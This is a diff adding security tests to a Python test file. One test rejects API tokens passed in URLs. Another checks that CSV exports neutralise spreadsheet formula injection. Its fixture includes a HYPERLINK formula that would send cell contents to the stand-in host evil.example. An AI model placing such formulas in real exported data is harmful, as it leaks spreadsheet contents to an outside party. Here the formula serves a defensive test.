@@ -480,8 +480,12 @@ def test_calendar_feed_local_times_across_a_dst_change(
             assert summary == "Mental reset: away from screens"
             assert (local.hour, local.minute) == (15, 30)
         assert events[0]["categories"].cats == ["mental reset"]
-    # the API token works too; a wrong token does not; the feed token opens nothing else
+    # the API token works too, in the header only (attacker review: never in a URL); a wrong
+    # token does not; the feed token opens nothing else
     assert httpx.get(f"{server.url}/api/v1/calendar.ics", headers=server.auth).status_code == 200
+    api_token = server.auth["Authorization"].removeprefix("Bearer ")
+    in_url = httpx.get(f"{server.url}/api/v1/calendar.ics?token={api_token}")
+    assert in_url.status_code == 401 and in_url.json()["code"] == "unauthorized"
     wrong = httpx.get(f"{server.url}/api/v1/calendar.ics?token=nope")
     assert wrong.status_code == 401 and wrong.json()["code"] == "unauthorized"
     assert httpx.get(f"{server.url}/api/v1/calendar.ics").status_code == 401
@@ -764,6 +768,70 @@ def test_export_prompts_writes_its_files_whole_or_not_at_all(
     assert [p.name for p in export_prompts(db, out)] == list(names)
     assert (out / "prompts.csv").read_text().startswith("id,")
     assert sorted(p.name for p in out.iterdir()) == sorted(names)
+
+
+def test_export_prompts_writes_typed_text_as_text_not_as_a_spreadsheet_formula(
+    tmp_path: Path,
+) -> None:
+    """Attacker review (2026-12-06): the prompt CSVs go to a researcher's spreadsheet, and a
+    typed answer ``=HYPERLINK("http://evil.example/?d="&A2)`` was written raw: a live formula.
+    Text cells starting with = + - @ tab or CR get a leading ``'``; numbers stay numbers."""
+    import csv
+
+    from api.dayplan import export_prompts
+    from api.research.units import csv_cell
+    from api.storage import Storage
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    db = tmp_path / "hrvpace.sqlite3"
+    storage = Storage(db)
+    try:
+        for key, text, note, item in (
+            ("r", evil, "+1 tired", None),
+            ("c", None, "\tnote", {"key": "mood", "label": "@SUM(A1)", "anchor_low": "-low",
+                                    "anchor_high": "\rhigh"}),
+        ):  # fmt: skip
+            storage.add_prompt(
+                key=key,
+                kind="checkin",
+                trigger="planned",
+                text="How are you?",
+                state="sent",
+                due_at=100.0,
+                expires_at=3700.0,
+                at=100.0,
+                items=[] if item is None else [item],
+            ).result(timeout=10)
+            pid = max(r[0] for r in storage.query("SELECT id FROM prompts"))
+            answered = [] if item is None else [{**item, "value": -3, "choice": "-2+3"}]
+            storage.answer_prompt(pid, at=160.5, text=text, note=note, items=answered).result(
+                timeout=10
+            )
+    finally:
+        storage.close()
+    out = tmp_path / "out"
+    export_prompts(db, out)
+    with (out / "prompts.csv").open(newline="") as f:
+        prompts = list(csv.DictReader(f))
+    with (out / "prompt_answers.csv").open(newline="") as f:
+        (answer,) = list(csv.DictReader(f))
+    assert [(p["answer_text"], p["note"]) for p in prompts] == [
+        ("'" + evil, "'+1 tired"),
+        ("", "'\tnote"),
+    ]
+    assert prompts[0]["response_latency_s"] == "60.5"
+    assert (answer["label"], answer["choice"]) == ("'@SUM(A1)", "'-2+3")
+    assert (answer["anchor_low"], answer["anchor_high"]) == ("'-low", "'\rhigh")
+    assert answer["value"] == "-3"  # a number, untouched
+    # the one cell rule of the other CSVs: text neutralised, numbers as they are
+    assert [csv_cell(v) for v in ("=1+1", "-x", -1.5, -2, "a=b", None)] == [
+        "'=1+1",
+        "'-x",
+        "-1.5",
+        "-2",
+        "a=b",
+        "",
+    ]
 
 
 def test_the_plan_names_interventions_in_quiet_hours(clocked: tuple[Server, SetClock]) -> None:
